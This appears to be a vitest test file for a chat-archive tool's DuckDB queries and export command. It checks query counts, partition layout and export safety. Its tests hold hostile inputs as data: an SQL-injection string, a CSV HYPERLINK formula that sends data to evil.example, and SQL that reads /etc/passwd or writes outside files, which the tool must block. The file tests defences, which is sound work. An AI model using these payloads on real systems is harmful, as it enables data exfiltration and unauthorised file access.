/**
 * The named queries and views on DuckDB over a real archive: the simulator archived by the engine
 * into a temp folder (in a zone ahead of UTC), then every named query compared with counts
 * computed independently from the simulator's ground truth. Also checks that every object the
 * engine wrote sits where the Athena projection template says, and the export command end to end.
 */
import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalFolderStore } from '../../functions/adapters/local-folder/local-folder-store.ts';
import { systemClock } from '../../functions/adapters/system-clock.ts';
import { runExportCommand } from '../../functions/cli/export-command.ts';
import { openArchiveRunner } from '../../functions/cli/query-runners.ts';
import { dateInZone } from '../../functions/domain/partition.ts';
import type { JsonObject, RawMessage } from '../../functions/domain/tencent-types.ts';
import type { RunReport } from '../../functions/engine/report.ts';
import { findNamedQuery, parseParams, runNamedQuery } from '../../functions/query/named-queries.ts';
import type { QueryRunner } from '../../functions/query/port.ts';
import { type Cell, collectRows, type QueryResult } from '../../functions/query/result.ts';
import { messagesTable, runsTable } from '../../functions/query/tables.ts';
import type { Simulator } from '../../functions/simulator/index.ts';
import { engineRun, startEngineSimulator } from '../helpers/engine.ts';
import { captureExportIo } from '../helpers/export.ts';

const ZONE = 'Asia/Shanghai';

interface Truth {
  groupId: string;
  topicId: string | null;
  seq: number;
  dt: string;
  isPlace: number;
  text: string | null;
  types: string[];
}

let sim: Simulator;
let dir = '';
let db: QueryRunner;
let truth: Truth[] = [];
const reports: RunReport[] = [];

async function archiveOnce(): Promise<RunReport> {
  const report = await engineRun(sim, new LocalFolderStore(dir), {
    runId: `run${reports.length}x${Date.now().toString(36)}`,
    timeZone: ZONE,
    flushBytes: 40_000,
  }).run();
  reports.push(report);
  return report;
}

/** What the archive must contain, straight from the simulator (not from the writer). */
function groundTruth(): Truth[] {
  const out: Truth[] = [];
  const add = (groupId: string, topicId: string | null, m: RawMessage) => {
    const body = (Array.isArray(m.MsgBody) ? m.MsgBody : []) as JsonObject[];
    const texts = body
      .filter((e) => e.MsgType === 'TIMTextElem')
      .map((e) => (e.MsgContent as JsonObject).Text)
      .filter((t): t is string => typeof t === 'string');
    out.push({
      groupId,
      topicId,
      seq: m.MsgSeq as number,
      dt: dateInZone(m.MsgTimeStamp as number, ZONE),
      isPlace: typeof m.IsPlaceMsg === 'number' ? m.IsPlaceMsg : 0,
      text: texts.length > 0 ? texts.join('\n') : null,
      types: body.map((e) => e.MsgType as string),
    });
  };
  for (const group of sim.groups()) {
    if (group.deleted || group.type === 'AVChatRoom' || group.type === 'BChatRoom') continue;
    for (const m of sim.groundTruth(group.groupId, { withRecalledMsg: true })) add(group.groupId, null, m);
    for (const topic of group.topics) {
      for (const m of sim.groundTruth(group.groupId, { topicId: topic.topicId, withRecalledMsg: true })) {
        add(group.groupId, topic.topicId, m);
      }
    }
  }
  return out;
}

async function named(name: string, params: Record<string, string>): Promise<QueryResult> {
  const query = findNamedQuery(name);
  if (!query) throw new Error(`no named query ${name}`);
  return runNamedQuery(db, query, parseParams(query, params));
}

async function rowObjects(result: QueryResult): Promise<Record<string, Cell>[]> {
  const rows = await collectRows(result);
  return rows.map((row) => Object.fromEntries(result.columns.map((c, i) => [c.name, row[i] ?? null])));
}

/** A local archive opened the way the CLI opens it (DuckDB, tables and views mirrored). */
function openLocal(root: string, timeZone: string): Promise<QueryRunner> {
  return openArchiveRunner({ archive: root, timeZone, clock: systemClock, workGroup: 'wg', database: 'db' });
}

const inRange = (from: string, to: string) => (t: Truth) => t.dt >= from && t.dt <= to;
let FIRST = '';
let LAST = '';
let MIDDLE: [string, string] = ['', ''];

beforeAll(async () => {
  sim = await startEngineSimulator({
    seed: 23,
    retentionDays: 365,
    // Every message keeps its time, so the truth below knows each one's dt; the views over zeroed
    // placeholders (MsgTimeStamp 0) are checked in rescan.test.ts.
    placeholders: 'kept',
    dataset: {
      groups: 12,
      activeFraction: 0.9,
      messagesPerActiveGroup: [40, 220],
      historyDays: 30,
      deletedFraction: 0.02,
      recalledFraction: 0.02,
      extraGroups: [
        {
          groupId: '@TGS#_@TGS#cQUERYTOPICS',
          type: 'Community',
          messages: 0,
          topics: [
            { topicId: '@TGS#_@TGS#cQUERYTOPICS@TOPIC#_@TOPIC#cA', messages: 60 },
            { topicId: '@TGS#_@TGS#cQUERYTOPICS@TOPIC#_@TOPIC#cB', messages: 15 },
          ],
        },
      ],
    },
  });
  dir = await mkdtemp(join(tmpdir(), 'query-duckdb-'));
  await archiveOnce();
  const grow = sim.groups().find((g) => g.type === 'Public' && !g.deleted);
  if (grow) sim.appendMessages(grow.groupId, 30);
  await archiveOnce();
  truth = groundTruth();
  const dts = [...new Set(truth.map((t) => t.dt))].sort();
  FIRST = dts[0] as string;
  LAST = dts.at(-1) as string;
  MIDDLE = [dts[Math.floor(dts.length / 3)] as string, dts[Math.floor(dts.length / 3) + 4] as string];
  db = await openLocal(dir, ZONE);
});

afterAll(async () => {
  db?.close();
  await sim?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('the archive on DuckDB', () => {
  it('is where the Athena projection looks: every object key fills the location template', async () => {
    const props = {
      bucketName: 'bucket',
      prefix: '',
      sdkAppIds: [1400000000],
      timeZone: ZONE,
      dtStart: '2000-01-01',
    };
    const templates = [messagesTable(props), runsTable(props)].map((t) =>
      (t.parameters['storage.location.template'] as string).replace('s3://bucket/', ''),
    );
    const keys: string[] = [];
    for await (const key of new LocalFolderStore(dir).list('')) keys.push(key);
    const data = keys.filter((k) => k.startsWith('messages/') || k.startsWith('runs/'));
    expect(data.length).toBeGreaterThan(10);
    for (const key of data) {
      const match = /sdkappid=(\d+)\/dt=(\d{4}-\d{2}-\d{2})\//.exec(key);
      const filled = templates.map((t) =>
        // biome-ignore lint/suspicious/noTemplateCurlyInString: Athena projection placeholders, not a JS template.
        t.replace('${sdkappid}', match?.[1] ?? '?').replace('${dt}', match?.[2] ?? '?'),
      );
      expect(
        filled.some((folder) => key === `${folder}${key.slice(key.lastIndexOf('/') + 1)}`),
        key,
      ).toBe(true);
    }
  });

  it('has one messages_flat row per message, with the local time on the dt of its folder', async () => {
    const rows = await rowObjects(
      await db.run('SELECT sent_at, dt, sdkappid, sdk_app_id FROM messages_flat'),
    );
    expect(rows.length).toBe(truth.length);
    for (const row of rows) {
      expect(row.sent_at?.slice(0, 10)).toBe(row.dt);
      expect(row.sdkappid).toBe(row.sdk_app_id);
    }
  });

  it('conversation: a group (and a topic community) for a date range, oldest first', async () => {
    const plain = truth.find((t) => t.topicId === null)?.groupId as string;
    for (const groupId of [plain, '@TGS#_@TGS#cQUERYTOPICS']) {
      for (const [from, to] of [[FIRST, LAST], MIDDLE] as const) {
        const rows = await rowObjects(await named('conversation', { group_id: groupId, from, to }));
        const expected = truth.filter((t) => t.groupId === groupId).filter(inRange(from, to));
        expect(rows.length, `${groupId} ${from}..${to}`).toBe(expected.length);
        const sent = rows.map((r) => r.sent_at as string);
        expect(sent).toEqual([...sent].sort());
        expect(
          rows.every((r) => r.group_id === groupId && (r.dt as string) >= from && (r.dt as string) <= to),
        ).toBe(true);
      }
    }
    expect(
      await collectRows(await named('conversation', { group_id: 'nope', from: FIRST, to: LAST })),
    ).toEqual([]);
  });

  it.each(['world', 'HELLO', '" and', "x' OR '1'='1", '收到'])(
    'text-search %j counts what the simulator sent',
    async (text) => {
      const rows = await collectRows(await named('text-search', { text, from: FIRST, to: LAST }));
      const expected = truth.filter((t) => t.text?.toLowerCase().includes(text.toLowerCase()));
      expect(rows.length).toBe(expected.length);
      if (text !== "x' OR '1'='1") expect(rows.length).toBeGreaterThan(0);
    },
  );

  it('daily-volume: messages, deleted and recalled per group and day', async () => {
    const rows = await rowObjects(await named('daily-volume', { from: FIRST, to: LAST }));
    const expected = new Map<string, { messages: number; deleted: number; recalled: number }>();
    for (const t of truth) {
      const key = `${t.dt}|${t.groupId}`;
      const entry = expected.get(key) ?? { messages: 0, deleted: 0, recalled: 0 };
      if (t.isPlace === 1) entry.deleted++;
      else if (t.isPlace === 2) entry.recalled++;
      else entry.messages++;
      expected.set(key, entry);
    }
    const actual = new Map(
      rows.map((r) => [
        `${r.dt}|${r.group_id}`,
        { messages: Number(r.messages), deleted: Number(r.deleted), recalled: Number(r.recalled) },
      ]),
    );
    expect(actual).toEqual(expected);
    expect(
      [...expected.values()].some((e) => e.deleted > 0) && [...expected.values()].some((e) => e.recalled > 0),
    ).toBe(true);
  });

  it('deleted-recalled: every placeholder and recalled message, with its status', async () => {
    const rows = await rowObjects(await named('deleted-recalled', { from: FIRST, to: LAST }));
    const expected = truth
      .filter((t) => t.isPlace === 1 || t.isPlace === 2)
      .map((t) => `${t.groupId}|${t.topicId ?? ''}|${t.seq}|${t.isPlace === 2 ? 'recalled' : 'deleted'}`)
      .sort();
    expect(rows.map((r) => `${r.group_id}|${r.topic_id ?? ''}|${r.msg_seq}|${r.status}`).sort()).toEqual(
      expected,
    );
  });

  it('element-types: elements per type, narrowed by dt', async () => {
    for (const [from, to] of [[FIRST, LAST], MIDDLE] as const) {
      const rows = await rowObjects(await named('element-types', { from, to }));
      const expected = new Map<string, number>();
      for (const t of truth.filter(inRange(from, to))) {
        for (const type of t.types) expected.set(type, (expected.get(type) ?? 0) + 1);
      }
      expect(new Map(rows.map((r) => [r.element_type, Number(r.elements)]))).toEqual(expected);
    }
  });

  it('runs: one row per run report, counters as reported', async () => {
    const rows = await rowObjects(await named('runs', { from: FIRST, to: '2099-12-31' }));
    expect(rows.map((r) => r.run_id)).toEqual(reports.map((r) => r.runId));
    expect(rows.map((r) => Number(r.messages))).toEqual(reports.map((r) => r.messages));
    expect(rows.map((r) => r.done)).toEqual(['true', 'true']);
    expect(rows.map((r) => Number(r.error_count))).toEqual(reports.map((r) => r.errors.length));
    expect(rows.reduce((n, r) => n + Number(r.messages), 0)).toBe(truth.length);
  });

  it('exposes msg_body elements (as JSON, DuckDB matches keys case-sensitively) and extra as JSON text', async () => {
    const rows = await collectRows(
      await db.run(
        "SELECT json_extract_string(msg_body[1].msg_content, '$.Text') FROM messages WHERE msg_body[1].msg_type = 'TIMTextElem' AND text IS NOT NULL LIMIT 5",
      ),
    );
    expect(rows.length).toBeGreaterThan(0);
    for (const [text] of rows) expect(typeof text).toBe('string');
  });

  it('gives empty tables, not errors, for an archive with no files yet', async () => {
    const empty = await mkdtemp(join(tmpdir(), 'query-empty-'));
    const emptyDb = await openLocal(empty, 'UTC');
    try {
      expect(await collectRows(await emptyDb.run('SELECT count(*) FROM messages_flat'))).toEqual([['0']]);
      expect(await collectRows(await emptyDb.run('SELECT count(*) FROM runs_flat'))).toEqual([['0']]);
    } finally {
      emptyDb.close();
      await rm(empty, { recursive: true, force: true });
    }
  });
});

describe('npm run export on a local archive', () => {
  const io = () => captureExportIo();

  it('writes a named query as CSV and arbitrary SQL as JSONL', async () => {
    const csv = join(dir, 'volume.csv');
    const a = io();
    expect(
      await runExportCommand(
        [
          'daily-volume',
          '--params',
          `from=${FIRST}`,
          `to=${LAST}`,
          '--out',
          csv,
          '--archive',
          dir,
          '--time-zone',
          ZONE,
        ],
        a.deps,
      ),
    ).toBe(0);
    const lines = (await readFile(csv, 'utf8')).split('\r\n');
    expect(lines[0]).toBe('dt,sdk_app_id,group_id,messages,deleted,recalled');
    const days = new Set(truth.map((t) => `${t.dt}|${t.groupId}`));
    expect(lines.filter((l) => l.length > 0).length - 1).toBe(days.size);
    expect(a.out.join('')).toBe(`wrote ${days.size} rows to ${csv}\n`);

    const jsonl = join(dir, 'top.jsonl');
    const b = io();
    await runExportCommand(
      [
        'SELECT group_id, count(*) AS n, max(msg_seq) AS top FROM messages GROUP BY 1 ORDER BY 2 DESC LIMIT 3',
        '--out',
        jsonl,
        '--archive',
        dir,
      ],
      b.deps,
    );
    const records = (await readFile(jsonl, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(records).toHaveLength(3);
    expect(typeof records[0].n).toBe('number');
    expect(typeof records[0].group_id).toBe('string');
  });

  it('neutralises formula cells in CSV and leaves every other line byte for byte as --raw-csv writes it', async () => {
    const sql =
      'SELECT group_id, topic_id, msg_seq, sender, text, msg_seq - 1000 AS negative FROM messages_flat ' +
      'ORDER BY group_id, topic_id NULLS FIRST, msg_seq';
    const safe = join(dir, 'safe.csv');
    const raw = join(dir, 'raw.csv');
    await runExportCommand([sql, '--out', safe, '--archive', dir], io().deps);
    await runExportCommand([sql, '--out', raw, '--archive', dir, '--raw-csv'], io().deps);
    const safeLines = (await readFile(safe, 'utf8')).split('\r\n');
    const rawLines = (await readFile(raw, 'utf8')).split('\r\n');
    expect(safeLines).toHaveLength(rawLines.length);
    // A formula start: tab or CR, or `=+-@` (or their full-width forms) behind any white space.
    const formula = /^(?:[\t\r]|\s*[=+@\uff1d\uff0b\uff0d\uff20-])/;
    const texts = await collectRows(await db.run('SELECT text FROM messages_flat'));
    const formulaRows = texts.filter(([text]) => text != null && formula.test(text)).length;
    const differing = safeLines.flatMap((line, i) => (line === rawLines[i] ? [] : [[rawLines[i], line]]));
    // The simulator's hostile texts are in the archive; exactly their lines change.
    expect(formulaRows).toBeGreaterThan(0);
    expect(differing).toHaveLength(formulaRows);
    const neutralised = /,"'(?:[\t\r]|\s*[=+@\uff1d\uff0b\uff0d\uff20-])/;
    for (const [before, after] of differing) {
      expect(after).toMatch(neutralised);
      // Only the quote and the leading apostrophe were added.
      const bare = (line = '') => line.replace(/,"'/, ',').replaceAll('"', '');
      expect(bare(after)).toBe(bare(before));
      expect(before).not.toMatch(neutralised);
    }
    // Negative numbers stay numbers: the last column is msg_seq - 1000, negative for most rows.
    expect(safeLines.filter((l) => /,-\d+$/.test(l)).length).toBeGreaterThan(10);
    expect(safeLines.join('\n')).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click me"")"`);
  });

  it('fails on bad SQL and leaves no partial file', async () => {
    const out = join(dir, 'bad.csv');
    await expect(
      runExportCommand(['SELECT * FROM nosuch', '--out', out, '--archive', dir], io().deps),
    ).rejects.toThrow(/nosuch/);
    expect((await readdir(dir)).filter((f) => f.startsWith('bad.csv'))).toEqual([]);
  });
});

describe('a local archive on DuckDB is read as that folder, and nothing else', () => {
  const io = () => captureExportIo();
  const countOf = async (archive: string, extra: string[] = []) => {
    const out = join(await mkdtemp(join(tmpdir(), 'query-count-')), 'n.jsonl');
    const run = io();
    expect(
      await runExportCommand(
        ['SELECT count(*) AS n FROM messages', '--out', out, '--archive', archive, ...extra],
        run.deps,
      ),
    ).toBe(0);
    return JSON.parse(await readFile(out, 'utf8')).n as number;
  };

  it('exports every row of an archive whose folder name holds `[`, `*` and `?`', async () => {
    const parent = await mkdtemp(join(tmpdir(), 'query-glob-'));
    try {
      const odd = join(parent, 'arch[1]*?');
      for (const folder of ['messages', 'runs'])
        await cp(join(dir, folder), join(odd, folder), { recursive: true });
      // A sibling the glob `arch[1]*?` matches, with one object of the archive: not to be read.
      const first = (await readdir(join(dir, 'messages'), { recursive: true })).find((f) =>
        f.endsWith('.gz'),
      );
      await cp(join(dir, 'messages', first as string), join(parent, 'arch1xy', 'messages', first as string));
      const [[expected]] = (await collectRows(await db.run('SELECT count(*) FROM messages'))) as [[Cell]];
      expect(Number(expected)).toBeGreaterThan(100);
      expect(await countOf(odd)).toBe(Number(expected));
      const oddDb = await openLocal(odd, ZONE);
      try {
        const [[runs]] = (await collectRows(await oddDb.run('SELECT count(*) FROM runs_flat'))) as [[Cell]];
        expect(Number(runs)).toBe(reports.length);
      } finally {
        oddDb.close();
      }
    } finally {
      await rm(parent, { recursive: true, force: true });
    }
  });

  it('refuses custom SQL that reads or writes other files, unless --allow-file-access', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'query-outside-'));
    try {
      const secret = join(outside, 'secret.txt');
      await writeFile(secret, 'not for the export\n');
      const out = join(outside, 'x.jsonl');
      const attempts = [
        `SELECT content FROM read_text('${secret}')`,
        "SELECT content FROM read_text('/etc/passwd')",
        `COPY (SELECT 1 AS x) TO '${join(outside, 'copied.csv')}'`,
        // Inside the archive, which DuckDB may read: still no writing.
        `COPY (SELECT 1 AS x) TO '${join(dir, 'messages', 'copied.csv')}'`,
        `ATTACH '${join(outside, 'x.db')}'`,
        'SET enable_external_access = true',
        'SET lock_configuration = false',
      ];
      for (const sql of attempts) {
        await expect(runExportCommand([sql, '--out', out, '--archive', dir], io().deps), sql).rejects.toThrow(
          /--allow-file-access/,
        );
      }
      expect(await readdir(outside)).toEqual(['secret.txt']);
      expect((await readdir(join(dir, 'messages'))).filter((f) => f.startsWith('copied'))).toEqual([]);
      // The archive's own tables and views still answer.
      expect(await countOf(dir)).toBeGreaterThan(100);

      expect(
        await runExportCommand(
          [
            `SELECT content FROM read_text('${secret}')`,
            '--out',
            out,
            '--archive',
            dir,
            '--allow-file-access',
          ],
          io().deps,
        ),
      ).toBe(0);
      expect(JSON.parse(await readFile(out, 'utf8'))).toEqual({ content: 'not for the export\n' });
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  it('documents --allow-file-access in the usage', async () => {
    const run = io();
    expect(await runExportCommand(['--allow-file-acess'], run.deps)).toBe(2);
    expect(run.err.join('')).toMatch(
      /--allow-file-access +a local archive's SQL may read and write any file/,
    );
  });
});
